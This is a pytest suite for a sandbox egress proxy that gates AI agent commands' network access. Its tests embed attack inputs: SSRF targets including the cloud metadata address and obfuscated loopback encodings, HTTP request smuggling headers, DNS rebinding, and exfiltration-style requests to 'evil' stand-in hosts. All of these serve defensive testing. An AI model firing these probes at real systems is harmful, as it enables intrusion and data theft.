"""The net as commands have it: none by themselves, and with a person's setting by the proxy alone, each
request by the policy of its call."""

import asyncio
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from typing import Any
from urllib.parse import urlsplit

import pytest

from agent_contracts import event_sources
from agent_contracts.entities.agent_settings import SYSTEM_AGENT
from agent_contracts.entities.entity import EntityKind
from agent_contracts.json_value import Json
from agent_contracts.outside import Source
from agent_contracts.policies import POLICY_NAME, Grant, Match
from agent_contracts.session_events.results import ToolCallCompleted, ToolCallPending
from agent_platform.entities.entities import Entities
from agent_platform.entities.entity import EntityKey, EntityWriter
from egress.dialing import CheckedDialing
from egress.proxy import limits as of_proxies
from egress.rules import EgressRules
from foldline_testing.agent_platform.servers import NatsForTest
from foldline_testing.agent_tools.world import AGENT, SESSION, delivery, until
from foldline_testing.egress.web import FixedNames, LocalServer, answered, local_server
from foldline_testing.workspace_host.world import ShellWorld, shell_world
from workspace_host import limits
from workspace_host.isolation.isolation import Isolation, isolation_here
from workspace_host.settings import CommandNetworkSettings

pytestmark = [pytest.mark.processes, pytest.mark.faults, pytest.mark.usefixtures("namespaces")]


@pytest.fixture(scope="module")
def namespaces() -> None:
    """Skips where commands can have no network of their own."""
    if isolation_here().lacks == "bubblewrap is not installed":
        pytest.skip("bubblewrap is not installed: commands have no network namespace here")


FETCH = """
import sys, urllib.request, urllib.error
def fetch(url, **more):
    try:
        with urllib.request.urlopen(urllib.request.Request(url, **more), timeout=30) as answer:
            return answer.status, answer.read().decode()
    except urllib.error.HTTPError as error:
        return error.code, error.read().decode()
    except OSError as error:
        return 0, str(error)
"""
RAW = """
import os, socket
def proxy():
    one = socket.create_connection(('127.0.0.1', 3128), timeout=30)
    return one, one.makefile('rb')
def ask(data):
    one, said = proxy()
    one.sendall(data)
    with one:
        return said.read().decode('latin-1')
"""
NAMES = {name: ["127.0.0.1"] for name in ("a.test", "b.test", "inside.test")}


@pytest.fixture
async def world() -> AsyncIterator[ShellWorld]:
    """Commands may have the net, and `a.test` and `b.test` are this machine."""
    async with online() as made:
        yield made
        assert (await made.sh("echo well", session="after"))["stdout"] == "well\n"


@asynccontextmanager
async def online(names: FixedNames | None = None, **more: Any) -> AsyncIterator[ShellWorld]:
    rules = EgressRules(
        private_hosts=frozenset({"a.test", "b.test"}), own=more.pop("own", frozenset({("127.0.0.1", 4222)}))
    )
    dialing = CheckedDialing(rules, names or FixedNames(dict(NAMES)))
    settings = CommandNetworkSettings(command_network="policy")
    async with shell_world(dialing=dialing, settings=settings, **more) as made:
        yield made


@pytest.fixture
async def site() -> AsyncIterator[LocalServer]:
    async with local_server(lambda _: answered(b"Here")) as running:
        yield running


async def run(world: ShellWorld, code: str, **more: Any) -> Any:
    """The event that ended a Python program."""
    world.count += 1
    message = await world.request("run_python", {"code": code}, call_id=f"n{world.count}", **more)
    await world.runner().handle(delivery(message))
    return await world.ended(f"n{world.count}")


async def printed(world: ShellWorld, code: str, **more: Any) -> str:
    ended = await run(world, code, **more)
    assert isinstance(ended, ToolCallCompleted), ended
    assert isinstance(ended.result, dict)
    assert ended.result["stderr"] == "", ended.result
    return str(ended.result["stdout"])


def allowing(method: str, host: str = "a.test:*") -> tuple[Grant, ...]:
    return (Grant(Match(tool="run_python", host=host, method=method)),)


async def write(world: ShellWorld, kind: EntityKind, name: str, value: Json, owner: Any = AGENT) -> None:
    entities = Entities(world.log, world.clock, event_sources.GATEWAY)
    await entities.write(EntityKey(owner, kind, name), value, EntityWriter.user(f"w-{name}"))


async def test_without_a_person_s_setting_nothing_leaves(site: LocalServer) -> None:
    dialing = CheckedDialing(EgressRules(private_hosts=frozenset({"a.test"})), FixedNames(dict(NAMES)))
    async with shell_world(dialing=dialing) as world:
        world.grants = (Grant(Match(host="*")),)
        code = f"{FETCH}\nprint(fetch({site.url('a.test')!r})[0], fetch('http://127.0.0.1:{site.port}/')[0])"
        ended = await run(world, code)
        assert (ended.result["stdout"], ended.result["network"]) == ("0 0\n", "none")
        assert (await world.sh("env | grep -ci proxy"))["stdout"] == "0\n"
        assert site.seen == []
        await write(world, EntityKind.SETTING, "command_network", "policy", SYSTEM_AGENT)
        assert await printed(world, code) == "200 0\n", "it holds from the next call on"


async def test_a_request_leaves_by_the_policy_and_is_told_of(world: ShellWorld, site: LocalServer) -> None:
    ended = await run(world, f"{FETCH}\nprint(fetch({site.url('a.test', '/tea?q=1')!r}))")
    assert ended.result["stdout"] == "(200, 'Here')\n"
    assert ended.result["network"].startswith("by http_proxy")
    [sent] = ended.sent.requests
    assert (sent.host, sent.method, sent.path, sent.verdict, sent.status) == (
        "a.test", "GET", "/tea", "sent", 200,
    )  # fmt: skip
    assert min(sent.bytes_out, sent.bytes_in) > 50
    assert [(one.kind, one.name) for one in ended.outside] == [("web", "a.test")]
    assert site.seen[0].startswith("GET /tea?q=1 HTTP/1.1\r\n")


@pytest.mark.parametrize("method", ["POST", "PUT", "DELETE", "PATCH", "OPTIONS", "BREW"])
async def test_what_sends_is_refused_and_asked_for_and_a_yes_is_for_the_next_run(
    world: ShellWorld, site: LocalServer, method: str
) -> None:
    code = f"{FETCH}\nprint(fetch({site.url('a.test', '/p')!r}, method={method!r}, data=b'secret'))"
    ended = await run(world, code)
    assert isinstance(ended, ToolCallPending), ended
    show = {"host": "a.test", "method": method, "path": "/p", "run": True, "tool": "run_python"}
    assert ended.show.items() >= show.items()
    place = urlsplit(site.url("a.test", "/p")).netloc
    covers = {"tool": "run_python", "host": place, "method": method, "scheme": "http"}
    assert ended.show["covers"] == covers
    assert ended.sent is not None
    assert [one.verdict for one in ended.sent.requests] == ["asked"]
    assert site.seen == []
    world.grants = allowing(method)
    assert await printed(world, code) == "(200, 'Here')\n"
    assert site.seen[0].endswith("secret")


async def test_a_command_is_told_in_a_sentence_why_it_may_not(world: ShellWorld, site: LocalServer) -> None:
    code = f"{FETCH}\nopen('said', 'w').write(str(fetch({site.url('a.test')!r}, data=b'x')))"
    assert isinstance(await run(world, code), ToolCallPending)
    said = (await world.kept())["said"].decode()
    assert said.startswith('(403, "POST to http://a.test:')


async def test_a_rule_that_denies_counts_and_asks_nobody(world: ShellWorld, site: LocalServer) -> None:
    rule: Json = {"verdict": "deny", "match": {"host": "a.test", "path": "/private*"}}
    await write(world, EntityKind.POLICY, POLICY_NAME, {"rules": [rule]})
    code = f"{FETCH}\nprint(fetch({site.url('a.test', '/private/x')!r})[0], fetch({site.url('a.test')!r})[0])"
    ended = await run(world, code)
    assert ended.result["stdout"] == "403 200\n"
    assert [one.verdict for one in ended.sent.requests] == ["refused", "sent"]
    assert len(site.seen) == 1


async def test_the_policy_is_that_of_the_call_s_request(world: ShellWorld, site: LocalServer) -> None:
    world.count += 1
    code = f"{FETCH}\nprint(fetch({site.url('a.test')!r})[0])"
    message = await world.request("run_python", {"code": code}, call_id="early")
    rule: Json = {"verdict": "deny", "match": {"host": "*"}}
    await write(world, EntityKind.POLICY, POLICY_NAME, {"rules": [rule]})
    await world.runner().handle(delivery(message))
    assert (await world.ended("early")).result["stdout"] == "200\n"
    assert await printed(world, code) == "403\n"


async def test_after_material_from_outside_a_url_that_nobody_named_asks(
    world: ShellWorld, site: LocalServer
) -> None:
    page = (Source("web", "evil.example", "7"),)
    code = f"{FETCH}\nprint(fetch({site.url('a.test', '/?d=secret')!r})[0])"
    ended = await run(world, code, outside=page)
    assert isinstance(ended, ToolCallPending), ended
    assert (ended.show["host"], ended.show["method"]) == ("a.test", "GET")
    assert [one["name"] for one in ended.show["outside"]] == ["evil.example"]
    assert site.seen == []


@asynccontextmanager
async def echoing() -> AsyncIterator[int]:
    async def echo(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        while data := await reader.read(65536):
            writer.write(data)
            await writer.drain()
        writer.close()

    server = await asyncio.start_server(echo, "127.0.0.1", 0)
    async with server:
        yield server.sockets[0].getsockname()[1]


async def test_a_tunnel_is_judged_by_its_host_and_told_of_by_its_bytes(world: ShellWorld) -> None:
    async with echoing() as port:
        code = f"""{RAW}
one, said = proxy()
one.sendall(b'CONNECT a.test:{port} HTTP/1.1\\r\\nHost: b.test\\r\\n\\r\\n')
print(said.readline().split()[1].decode())
said.readline()
one.sendall(b'x' * 5000)
print(len(said.read(5000)))
one.close()"""
        ended = await run(world, code)
        assert isinstance(ended, ToolCallPending), ended
        assert (ended.show["host"], ended.show["method"]) == ("a.test", "CONNECT")
        assert "path" not in ended.show
        world.grants = allowing("GET") + allowing("POST")
        assert isinstance(await run(world, code), ToolCallPending), "a tunnel is none of these"
        world.grants = allowing("CONNECT")
        ended = await run(world, code)
        assert ended.result["stdout"] == "200\n5000\n", ended
        [sent] = ended.sent.requests
        assert (sent.host, sent.method, sent.path, sent.verdict, sent.status) == (
            "a.test", "CONNECT", "", "sent", None,
        )  # fmt: skip
        assert (sent.bytes_out, sent.bytes_in) == (5000, 5000)


async def test_what_lies_inside_is_refused_whatever_people_allowed(nats_server: NatsForTest) -> None:
    port = int(nats_server.url.rpartition(":")[2])
    own = frozenset({("127.0.0.1", port), ("127.0.0.1", 4222)})
    async with local_server(lambda _: answered(b"secret")) as inside, online(own=own) as world:
        world.grants = (Grant(Match(host="*")),)
        targets = [
            *("127.0.0.1:4222", f"127.0.0.1:{port}", f"a.test:{port}", "a.test:4222", "a.test:5432"),
            *(f"inside.test:{inside.port}", f"127.0.0.1:{inside.port}", f"[::1]:{inside.port}"),
            *("169.254.169.254:80", f"2130706433:{inside.port}", f"0x7f.1:{inside.port}"),
            *(f"[::ffff:127.0.0.1]:{inside.port}", "[fd00:ec2::254]:80"),
        ]
        code = f"""{RAW}
for to in {targets!r}:
    for line in (f'CONNECT {{to}} HTTP/1.1', f'GET http://{{to}}/ HTTP/1.1'):
        answer = ask(f'{{line}}\\r\\nHost: a.test\\r\\nConnection: close\\r\\n\\r\\n'.encode())
        if answer.split(' ')[1] not in ('403', '502'):
            print(line, answer)
for port in ({port}, {inside.port}, 4222):
    try:
        socket.create_connection(('127.0.0.1', port), timeout=5)
        print('dialled', port)
    except OSError:
        pass"""
        ended = await run(world, code)
        assert ended.result["stdout"] == "", ended
        assert inside.seen == []
        assert {one.verdict for one in ended.sent.requests} <= {"blocked", "failed"}


async def test_nobody_is_asked_for_what_can_t_be_reached_anyway(world: ShellWorld) -> None:
    ended = await run(
        world, f"{RAW}\nprint(ask(b'CONNECT 10.0.0.1:4222 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n')[9:12])"
    )
    assert isinstance(ended, ToolCallCompleted), ended
    assert ended.sent is not None
    assert [one.verdict for one in ended.sent.requests] == ["blocked"]


async def test_no_name_is_looked_up_before_a_person_s_yes() -> None:
    names = FixedNames(dict(NAMES))
    async with online(names) as world:
        ended = await run(
            world, f"{RAW}\nask(b'CONNECT s3cret.evil.test:443 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n')"
        )
        assert isinstance(ended, ToolCallPending)
        assert names.asked == []


async def test_a_name_that_changes_is_judged_at_each_request(site: LocalServer) -> None:
    names = FixedNames({"rebind.test": ["93.184.216.34"], "a.test": ["127.0.0.1"]})
    async with online(names) as world:
        names.names["rebind.test"] = ["127.0.0.1"]
        assert await printed(world, f"{FETCH}\nprint(fetch({site.url('rebind.test')!r})[0])") == "403\n"
        assert names.asked == ["rebind.test"]
        assert site.seen == []


async def test_another_host_in_a_header_and_a_second_request_in_a_body_deceive_nobody(
    world: ShellWorld, site: LocalServer
) -> None:
    second = (
        f"POST http://b.test:{site.port}/evil HTTP/1.1\\r\\nHost: a.test\\r\\nContent-Length: 1\\r\\n\\r\\nx"
    )
    head = f"GET http://a.test:{site.port}/one HTTP/1.1\\r\\nHost: b.test\\r\\n"
    both = "Content-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n"
    code = f"""{RAW}
one, said = proxy()
one.sendall(b'{head}\\r\\n{second}')
answers = said.read().decode('latin-1')
print([line.split()[1] for line in answers.splitlines() if line.startswith('HTTP/1.1')])
for tricks in ('{both}', 'Transfer-Encoding: xchunked\\r\\n\\r\\n', 'Content-Length: +5\\r\\n\\r\\n',
               'Content-Length: 5\\r\\nContent-Length: 6\\r\\n\\r\\n', 'X: a\\nY: b\\r\\n\\r\\n'):
    ask(('{head}' + tricks + 'hello{second}').encode('latin-1'))"""
    world.grants = allowing("GET")
    ended = await run(world, code)
    assert isinstance(ended, ToolCallPending), ended
    assert (ended.show["host"], ended.show["method"]) == ("b.test", "POST")
    assert site.seen
    for request in site.seen:
        assert request.startswith("GET /one HTTP/1.1\r\n")
        assert f"Host: a.test:{site.port}\r\n" in request
        assert "evil" not in request.partition("\r\n\r\n")[0]


async def test_a_thousand_connections_at_once_leave_the_host_well(
    world: ShellWorld, site: LocalServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(of_proxies, "LINGER_S", 0.2)
    code = f"""{RAW}
held, refused = [], 0
for _ in range(1000):
    try:
        held.append(socket.create_connection(('127.0.0.1', 3128), timeout=10))
    except OSError:
        refused += 1
import time
print(len(held) + refused, flush=True)
time.sleep(60)"""
    name = (await world.get("run_python", code=code, background=True))["command_id"]
    seen = ""
    while "1000" not in seen:
        seen += (await world.get("command_output", command_id=name, wait_s=1))["stdout"]
    [running] = world.host._running.values()
    assert running.proxy is not None
    assert running.proxy.open_connections <= 2 * limits.CONNECTIONS
    other = f"{FETCH}\nprint(fetch({site.url('a.test')!r})[0])"
    assert (await world.get("run_python", "other", code=other))["stdout"] == "200\n"
    assert (await world.get("stop_command", command_id=name))["ending"] == "stopped"
    assert running.proxy.open_connections == 0


async def test_what_says_nothing_or_says_it_slowly_is_let_go(
    world: ShellWorld, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(of_proxies, "HEAD_S", 0.5)
    code = f"""{RAW}
import time
one, said = proxy()
try:
    for byte in b'GET http://a.test/ HTTP/1.1':
        one.sendall(bytes([byte]))
        time.sleep(0.1)
    print(said.read())
except OSError:
    print('let go')"""
    assert await printed(world, code) == "let go\n"


async def test_a_body_without_end_comes_to_an_end(world: ShellWorld, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(limits, "CARRIED", 3 * limits.MIB)
    got = 0

    async def swallow(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        nonlocal got
        while data := await reader.read(65536):
            got += len(data)
        writer.close()

    server = await asyncio.start_server(swallow, "127.0.0.1", 0)
    async with server:
        port = server.sockets[0].getsockname()[1]
        world.grants = allowing("POST") + allowing("GET")
        code = f"""{RAW}
one, said = proxy()
one.sendall(b'POST http://a.test:{port}/ HTTP/1.1\\r\\nHost: a\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n')
sent = 0
try:
    while sent < 64:
        one.sendall(b'100000\\r\\n' + b'x' * 2 ** 20 + b'\\r\\n')
        sent += 1
except OSError:
    pass
print(said.read(12).decode(), ask(b'GET http://a.test:{port}/ HTTP/1.1\\r\\nHost: a\\r\\n\\r\\n')[9:12])"""
        ended = await run(world, code)
    assert ended.result["stdout"] == "HTTP/1.1 403 403\n", ended
    assert got <= 4 * limits.MIB
    assert [one.verdict for one in ended.sent.requests] == ["sent", "blocked"]


async def test_a_command_that_is_ended_leaves_no_connection(world: ShellWorld) -> None:
    async with echoing() as port:
        world.grants = allowing("CONNECT")
        code = f"""{RAW}
one, said = proxy()
one.sendall(b'CONNECT a.test:{port} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n')
print(said.readline(), flush=True)
import time
time.sleep(60)"""
        name = (await world.get("run_python", code=code, background=True))["command_id"]
        await until(lambda: [one for one in world.host._running.values() if one.stdout.size])
        [running] = world.host._running.values()
        ended = await world.call("stop_command", {"command_id": name})
        assert running.proxy is not None
        assert running.proxy.open_connections == 0
        assert [one.method for one in ended.sent.requests] == ["CONNECT"]


async def test_what_the_background_sends_is_told_and_asked_for_by_the_next_call(
    world: ShellWorld, site: LocalServer
) -> None:
    code = f"""{FETCH}
sys.stdin.readline()
print(fetch({site.url("a.test")!r})[0], flush=True)
sys.stdin.readline()
print(fetch({site.url("a.test")!r}, data=b'x')[0], flush=True)
sys.stdin.readline()"""
    name = (await world.get("run_python", code=code, background=True))["command_id"]
    first = await world.call("command_output", {"command_id": name, "input": "\n", "wait_s": 2})
    assert first.result["stdout"] == "200\n"
    assert [one.verdict for one in first.sent.requests] == ["sent"]
    assert [(one.kind, one.name) for one in first.outside] == [("web", "a.test")]
    second = await world.call("command_output", {"command_id": name, "input": "\n", "wait_s": 2})
    assert isinstance(second, ToolCallPending), second
    assert (second.show["tool"], second.show["method"]) == ("run_python", "POST")
    third = await world.call("command_output", {"command_id": name, "wait_s": 0})
    assert third.result["stdout"] == "403\n", "it is asked once, and nothing of what it wrote is lost"
    assert third.sent is None


async def test_what_a_command_serves_to_itself_needs_no_proxy(world: ShellWorld) -> None:
    command = (
        "python3 -m http.server 8000 >/dev/null 2>&1 & for i in 1 2 3 4 5 6 7 8 9; do sleep 0.3; "
        "python3 -c \"import urllib.request as r; print(r.urlopen('http://127.0.0.1:8000').status)\" "
        "2>/dev/null && break; done"
    )
    ran = await world.sh(command)
    assert ran["stdout"] == "200\n"


async def test_without_namespaces_there_is_no_network_and_it_says_so(site: LocalServer) -> None:
    async with online(isolation=Isolation("landlock", lacks="by this test")) as world:
        world.grants = (Grant(Match(host="*")),)
        ran = await world.get("run_python", code=f"{FETCH}\nprint(fetch({site.url('a.test')!r})[0])")
        assert ran["stdout"] == "0\n"
        assert ran["network"].startswith("none: without namespaces")
        assert site.seen == []


async def test_two_commands_have_each_their_own_door(world: ShellWorld, site: LocalServer) -> None:
    await write(
        world,
        EntityKind.POLICY,
        POLICY_NAME,
        {"rules": [{"verdict": "deny", "match": {"tool": "run_command"}}]},
    )
    code = f"{FETCH}\nimport time\ntime.sleep(0.5)\nprint(fetch({site.url('a.test')!r})[0])"
    quoted = code.replace("'", '"')
    by_shell, by_python = await asyncio.gather(
        world.sh(f"python3 -c '{quoted}'", session=SESSION), world.get("run_python", "s2", code=code)
    )
    assert (by_shell["stdout"], by_python["stdout"]) == ("403\n", "200\n")


async def test_a_way_out_that_breaks_in_the_middle_breaks_what_goes_on_and_nothing_else(
    world: ShellWorld,
) -> None:
    async with echoing() as port:
        world.grants = allowing("CONNECT")
        code = f"""{RAW}
one, said = proxy()
one.sendall(b'CONNECT a.test:{port} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n')
print(said.readline().decode().strip(), flush=True)
said.readline()
try:
    print('ended', said.read(10), flush=True)
except OSError as error:
    print('broken', flush=True)
try:
    proxy()
    print('still there')
except OSError:
    print('gone')"""
        name = (await world.get("run_python", code=code, background=True))["command_id"]
        [running] = world.host._running.values()
        await until(lambda: running.proxy is not None and running.proxy.open_connections)
        await running._served.aclose()
        said = ""
        while "gone" not in said and "still" not in said:
            said += (await world.get("command_output", command_id=name, wait_s=1))["stdout"]
        assert said.endswith(("ended b''\ngone\n", "broken\ngone\n")), said


async def test_nothing_in_there_can_stand_in_for_the_proxy(world: ShellWorld) -> None:
    code = """
import os, socket
try:
    socket.create_server(('127.0.0.1', 3128))
    print('bound')
except OSError as error:
    print(error.errno == 98)
print(sorted(os.listdir('/proc/self/fd')))"""
    said = await printed(world, code)
    assert said.startswith("True\n")
    assert "'4'" not in said.splitlines()[1], "neither the door nor the socket that it went by stays open"
